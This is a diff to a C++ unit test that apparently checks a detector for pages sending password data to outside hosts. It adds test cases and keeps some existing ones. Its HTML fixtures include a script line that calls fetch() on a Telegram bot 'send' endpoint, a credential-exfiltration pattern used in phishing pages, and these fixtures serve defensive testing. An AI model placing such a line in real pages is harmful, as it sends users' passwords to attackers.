@@ -110,6 +110,9 @@ TEST_F(LandingTest, SaysWhoGetsTheSecret) {
        "www.shop.example|"},
       {password + "<script>fetch('https://api.telegram.org/bot1:x/send')</script>",
        "api.telegram.org|Telegram!+post"},
+      {password + "<script>'api.telegram.org/x', 'https://api.telegram.org'</script>", ""},
+      {password + "<script>'api.telegram.org', 'https://api.telegram.org/bot1'</script>",
+       "api.telegram.org|Telegram!+post"},
       {"<input><script>fetch('https://api.telegram.org/bot1:x/send')</script>", ""},
   };
   for (const auto& [html, forms] : cases) {
